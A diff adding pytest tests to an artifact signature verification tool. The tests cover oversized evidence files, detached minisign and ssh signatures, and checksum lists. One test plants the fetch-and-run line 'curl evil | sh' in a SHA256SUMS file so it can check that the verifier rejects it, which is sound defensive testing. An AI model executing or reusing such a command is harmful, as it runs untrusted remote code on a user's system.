@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -276,6 +277,46 @@ def test_t51_an_old_trust_root_says_so(scene: Path, program: Program) -> None:
     flags = [value.replace("2026-03-14", "2026-09-14") for value in BY_POLICY]
     ran = program("verify", NAME, *flags, "--format", "json")
     assert (ran.code, reasons(ran)) == (4, {"trust.stale"})
+
+
+def test_t91_a_huge_file_in_a_directory_of_evidence_is_left_out_and_said_to_be(scene: Path, program: Program) -> None:
+    (scene / "evidence").mkdir()
+    (scene / f"{NAME}.sigstore.json").rename(scene / "evidence" / "good.json")
+    with (scene / "evidence" / "huge.json").open("wb") as file:
+        file.truncate(1 << 40)
+    ran = program("verify", NAME, "-e", "evidence", *BY_POLICY)
+    assert ran.code == 0
+    assert ran.errors.startswith(b"countersign: left out of the evidence: evidence/huge.json: ")
+    assert program("verify", NAME, "-e", "evidence/huge.json", *BY_POLICY).reason == "limit.sbom"
+
+
+@pytest.mark.parametrize("case", ["minisign-over-the-file", "ssh-over-the-file", "minisign-over-a-list"])
+def test_a_detached_signature_or_a_signed_list_beside_the_artifact_is_found(
+    here: Path, program: Program, case: str
+) -> None:
+    shutil.copytree(VECTORS / "detached" / case, "release")
+    for path in Path("release").glob("endpoint.*sig"):
+        path.rename(f"release/{NAME}{path.suffix}")
+    (here / "release" / NAME).write_bytes(RELEASE.content)
+    for name in ("policy.toml", "vendor.pub", "case.toml"):
+        (here / "release" / name).rename(name)
+    flags = ("--policy", "policy.toml", "--trust", "vendor.pub", "--now", NOW)
+    ran = program("verify", f"release/{NAME}", *flags)
+    assert ran.code == 0, ran.text
+    assert "found beside it" in ran.text
+    whole = program("verify", "release", *flags)
+    assert (whole.code, "1 artifact: 1 PASSED" in whole.text) == (0, True), whole.text
+
+
+def test_a_product_does_not_hide_under_the_name_of_a_list(scene: Path, program: Program) -> None:
+    (scene / "product").mkdir()
+    for name in (NAME, f"{NAME}.sigstore.json"):
+        (scene / name).rename(scene / "product" / name)
+    listed = f"{'0' * 64}  {NAME}\n".encode()
+    (scene / "product" / "SHA256SUMS").write_bytes(listed + b"curl evil | sh\n")
+    assert program("verify", "product", *BY_POLICY).code != 0
+    (scene / "product" / "SHA256SUMS").write_bytes(listed)
+    assert program("verify", "product", *BY_POLICY).code == 0
 
 
 def test_a_key_in_a_file_may_be_who_is_expected(scene: Path, program: Program) -> None:
